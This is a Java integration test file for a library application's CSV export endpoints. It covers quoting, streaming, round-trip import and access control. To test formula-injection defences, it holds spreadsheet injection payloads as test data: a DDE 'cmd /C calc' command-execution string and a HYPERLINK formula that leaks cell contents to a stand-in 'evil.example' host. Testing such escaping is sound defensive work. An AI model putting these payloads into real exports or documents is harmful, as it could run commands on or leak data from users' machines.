package org.library.web.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.is;

import io.restassured.response.Response;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.library.testing.ApiClient;
import org.library.testing.LibraryDeploymentTest;
import org.library.testing.TestData;

/**
 * CSV exports over real HTTP: streamed attachments with a header row, every row once in a few
 * thousand, values quoted as RFC 4180 wants, and the catalogue exported and imported again
 * unchanged.
 */
class CsvExportIT extends LibraryDeploymentTest {

    ApiClient api;

    @BeforeEach
    void client() {
        api = new ApiClient(base);
    }

    @Test
    void theBooksExportIsACsvAttachmentWhoseValuesAreQuotedAsNeeded() throws IOException {
        long author = api.create("/authors", Map.of("name", "Export, \"Quoted\" Author", "birthYear", 1801, "deathYear", 1870));
        String isbn = TestData.isbn();
        api.create("/books", Map.of("isbn", isbn, "title", "Commas, \"Quotes\"\nand Lines", "publicationYear", 1850,
                "copies", 3, "authorId", author));

        Response export = export("books");

        export.then().statusCode(200).contentType("text/csv; charset=UTF-8")
                .header("Content-Disposition", "attachment; filename=\"library-books.csv\"");
        String body = export.asString();
        assertThat(body).startsWith("isbn,title,publication_year,copies,author,author_birth_year,author_death_year\r\n");
        assertThat(body).contains(isbn + ",\"Commas, \"\"Quotes\"\"\nand Lines\",1850,3,\"Export, \"\"Quoted\"\" Author\",1801,1870\r\n");
        CSVRecord row = byFirstColumn(parse(body)).get(isbn);
        assertThat(row.get("title")).isEqualTo("Commas, \"Quotes\"\nand Lines");
        assertThat(row.get("author")).isEqualTo("Export, \"Quoted\" Author");
    }

    @Test
    void aFewThousandBooksAreStreamedEachExactlyOnce() throws IOException {
        List<String> isbns = IntStream.range(0, 3000).mapToObj(i -> TestData.isbn()).distinct().toList();
        String csv = CsvImportIT.BOOKS_HEADER + isbns.stream()
                .map(isbn -> isbn + ",Streamed " + isbn + ",1999,2,Streamed Author,1960")
                .collect(Collectors.joining("\n", "", "\n"));
        CsvImportIT.importCsv(api, "books", csv);
        long total = ((Number) api.request().get("/books?size=1&total=true").then().body("totalExact", is(true)).extract().path("total")).longValue();

        List<CSVRecord> rows = parse(export("books").then().statusCode(200).extract().asString());

        assertThat(rows).hasSize((int) total); // every book, in chunks, none twice
        Map<String, CSVRecord> byIsbn = byFirstColumn(rows);
        assertThat(byIsbn).hasSize(rows.size());
        assertThat(byIsbn.keySet()).containsAll(isbns);
        CSVRecord one = byIsbn.get(isbns.get(1234));
        assertThat(List.of(one.get("title"), one.get("copies"), one.get("author"), one.get("author_birth_year")))
                .containsExactly("Streamed " + isbns.get(1234), "2", "Streamed Author", "1960");
    }

    @Test
    void theCatalogueExportedAndImportedAgainIsTheSameCatalogue() throws IOException {
        // two authors of the same name, neither with a birth year: the CSV cannot tell them apart,
        // the import must still give each book back to its own
        long first = api.author("Same Name Twice");
        long second = api.author("Same Name Twice");
        api.book(first, TestData.isbn(), 1);
        api.book(second, TestData.isbn(), 2);
        // values a spreadsheet would run as formulas, and quotes that must survive as they are
        long formulaAuthor = api.create("/authors", Map.of("name", "=cmd|' /C calc'!A0", "birthYear", -500));
        Map<String, String> titles = new java.util.LinkedHashMap<>();
        for (String title : FORMULAS) {
            String isbn = TestData.isbn();
            titles.put(isbn, title);
            api.create("/books", Map.of("isbn", isbn, "title", title, "copies", 1, "authorId", formulaAuthor));
        }
        String before = export("books").asString();

        Map<String, CSVRecord> exported = byFirstColumn(parse(before));
        titles.forEach((isbn, title) -> {
            CSVRecord row = exported.get(isbn);
            assertThat(row.get("title")).as(title).isEqualTo(title.startsWith("'S") ? title : "'" + title);
            assertThat(row.get("author")).isEqualTo("'=cmd|' /C calc'!A0");
            assertThat(row.get("author_birth_year")).isEqualTo("'-500");
        });

        io.restassured.path.json.JsonPath imported = CsvImportIT.importCsv(api, "books", before);

        assertThat(imported.getString("status")).isEqualTo("DONE");
        assertThat(List.of(imported.getInt("rejected"), imported.getInt("created"), imported.getInt("updated"))).containsOnly(0);
        assertThat(imported.getLong("unchanged")).isEqualTo(parse(before).size());
        assertThat(export("books").asString()).isEqualTo(before);
        api.request().get("/authors/{id}/books", first).then().body("total", is(1));
        api.request().get("/authors/{id}/books", second).then().body("total", is(1));
        titles.forEach((isbn, title) -> api.request().get("/books?q={isbn}", isbn).then().body("items[0].title", is(title)));
        api.request().get("/authors/{id}", formulaAuthor).then().body("name", is("=cmd|' /C calc'!A0"))
                .body("birthYear", is(-500));
    }

    @Test
    void membersAndLoansAreExportedWithoutFormulasAndTheMembersComeBackUnchanged() throws IOException {
        Map<String, String> names = new java.util.LinkedHashMap<>();
        for (String name : FORMULAS) {
            names.put(TestData.memberNumber(), name);
        }
        names.forEach((number, name) -> api.create("/members", Map.of("memberNumber", number, "name", name,
                "email", TestData.email("formula"))));
        String isbn = TestData.isbn();
        long book = api.create("/books", Map.of("isbn", isbn, "title", "@SUM(1+1)*cmd|' /C calc'!A0", "copies", 1,
                "authorId", api.author("Loaned Formula Author")));
        long reader = api.member(TestData.memberNumber(), "Formula Reader");
        api.post("/members/" + reader + "/borrows", Map.of("bookId", book)).statusCode(201);

        CSVRecord loan = parse(export("loans").asString()).stream().filter(r -> r.get("isbn").equals(isbn))
                .findFirst().orElseThrow();
        assertThat(loan.get("title")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");

        String members = export("members").asString();
        String header = members.substring(0, members.indexOf("\r\n") + 2);
        String ours = linesOf(members, names.keySet());
        Map<String, CSVRecord> rows = byFirstColumn(parse(header + ours));
        assertThat(rows).hasSize(names.size());
        names.forEach((number, name) -> assertThat(rows.get(number).get("name"))
                .isEqualTo(name.startsWith("'S") ? name : "'" + name));

        io.restassured.path.json.JsonPath imported = CsvImportIT.importCsv(api, "members", header + ours);

        assertThat(imported.getInt("rejected")).isZero();
        assertThat(imported.getInt("unchanged")).isEqualTo(names.size());
        String again = export("members").asString();
        assertThat(linesOf(again, names.keySet())).isEqualTo(ours);
        names.forEach((number, name) -> api.request().get("/members?q={n}", number).then().body("items[0].name", is(name)));
    }

    @Test
    void membersAndLoansAreExportedWithTheirKeys() throws IOException {
        String number = TestData.memberNumber();
        long member = api.member(number, "Exported Reader");
        String isbn = TestData.isbn();
        long book = api.book(api.author("Lent Author"), isbn, 1);
        String borrowedAt = api.post("/members/" + member + "/borrows", Map.of("bookId", book)).statusCode(201)
                .extract().path("borrowedAt");

        Response members = export("members");
        members.then().statusCode(200).contentType("text/csv; charset=UTF-8")
                .header("Content-Disposition", "attachment; filename=\"library-members.csv\"");
        CSVRecord reader = byFirstColumn(parse(members.asString())).get(number);
        assertThat(reader.get("name")).isEqualTo("Exported Reader");
        assertThat(reader.get("active")).isEqualTo("true");
        assertThat(reader.get("joined_on")).matches("\\d{4}-\\d{2}-\\d{2}");

        List<CSVRecord> loans = parse(export("loans").then().statusCode(200).extract().asString());
        CSVRecord loan = loans.stream().filter(r -> r.get("isbn").equals(isbn)).findFirst().orElseThrow();
        assertThat(loan.get("member_number")).isEqualTo(number);
        assertThat(loan.get("title")).isEqualTo("Book " + isbn);
        // an ISO-8601 instant in UTC, to the millisecond the database keeps, as the API shows it
        assertThat(loan.get("borrowed_at")).matches("\\d{4}-\\d{2}-\\d{2}T\\d{2}:\\d{2}:\\d{2}(\\.\\d{3})?Z")
                .isEqualTo(borrowedAt);
        assertThat(loan.get("returned_at")).isEmpty();
        assertThat(loan.get("renewals")).isEqualTo("0");
    }

    @Test
    void exportsAreForLibrariansOnly() {
        for (String what : List.of("books", "members", "loans")) {
            api.anonymous().accept("text/csv").get("/exports/" + what + ".csv").then().statusCode(401)
                    .contentType("application/problem+json");
        }
    }

    /** Titles and names a spreadsheet would take for formulas, and quotes that are just quotes. */
    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "+1", "-5 degrees", "@home",
            "'=already quoted", "'Salem's Lot");

    private Response export(String what) {
        return api.anonymous().auth().preemptive().basic(TestData.ADMIN, TestData.ADMIN_PASSWORD).accept("text/csv")
                .get("/exports/" + what + ".csv");
    }

    /** The lines of a CSV text that start with one of the keys, each with its CRLF. */
    private static String linesOf(String csv, java.util.Set<String> keys) {
        return csv.lines().filter(line -> line.indexOf(',') > 0 && keys.contains(line.substring(0, line.indexOf(','))))
                .map(line -> line + "\r\n").collect(Collectors.joining());
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            return parser.getRecords();
        }
    }

    private static Map<String, CSVRecord> byFirstColumn(List<CSVRecord> rows) {
        return rows.stream().collect(Collectors.toMap(r -> r.get(0), Function.identity()));
    }
}
